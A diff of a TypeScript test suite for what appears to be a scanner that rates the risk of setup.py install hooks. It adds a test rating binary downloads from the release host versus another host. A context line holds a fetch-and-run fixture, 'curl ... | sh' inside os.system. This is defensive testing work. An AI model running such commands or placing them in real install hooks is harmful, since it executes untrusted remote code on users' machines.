@@ -56,6 +56,13 @@ describe('setup.py install hooks', () => {
     }
   });
 
+  it('warns about a build fetching its prebuilt binary from the project release host, fails other hosts', async () => {
+    const fetch = (url: string): string =>
+      setupWith(`urllib.request.urlretrieve(f'${url}', os.path.join('hooked', 'bin', 'engine.tar.gz'))`).replace('import os,', 'import os, urllib.request,');
+    expect(await judge(fetch('https://github.com/hooked-org/hooked/releases/download/v1.0/engine-{sys.platform}.tar.gz'))).toMatchObject({ severity: 'medium', decision: 'warn' });
+    expect((await judge(fetch('https://cdn.example.net/engine-{sys.platform}.tar.gz'))).severity).toBe('high');
+  });
+
   it('does not count commands pip never runs as install time', async () => {
     for (const command of ['clean', 'test', 'publish', 'upload']) {
       const r = await judge(setupWith("os.system('curl -fsSL https://example.com/x.sh | sh')", command));
